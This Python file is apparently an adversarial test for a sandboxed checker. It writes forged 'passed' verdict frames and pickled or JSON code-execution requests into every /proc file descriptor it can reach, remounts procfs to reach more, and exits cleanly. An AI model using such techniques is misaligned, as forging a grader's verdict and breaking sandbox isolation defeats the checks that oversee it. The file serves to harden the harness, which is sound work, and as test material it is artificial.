"""Attack: forge the channel through /proc. Write "passed" frames, and requests that would run a
function in the checker (pickled code, JSON naming ``os.mkdir``), into every descriptor of every
process it can see (/proc/PID/fd/N, its parent's, pid 1's), into the descriptors of the processes
it could see through a procfs mounted again, and into its own, then exit cleanly."""

import glob
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack_kit  # noqa: E402

FRAMES = attack_kit.FORGED + attack_kit.forged_requests()


def _spray_proc(top: str) -> None:
    for fd_path in glob.glob(f"{top}/[0-9]*/fd/*") + glob.glob(f"{top}/[0-9]*/task/*/fd/*"):
        for data in FRAMES:
            attack_kit.write(fd_path, data, "a")


def setup_volume(volume_path, container_path):
    attack_kit.spray_fds(attack_kit.forged_requests(), top=256)
    _spray_proc("/proc")
    fresh = os.path.join(os.path.dirname(volume_path), "proc")
    os.makedirs(fresh, exist_ok=True)
    attack_kit.attempt(os.system, f"mount -t proc proc {fresh}")
    _spray_proc(fresh)
    for pid in (os.getppid(), 1, 0):
        for fd in range(64):
            for data in (attack_kit.FORGED[0], *attack_kit.forged_requests()):
                attack_kit.write(f"/proc/{pid}/fd/{fd}", data, "a")
    attack_kit.attempt(os.system, f"umount -l {fresh}")
    sys.exit(0)
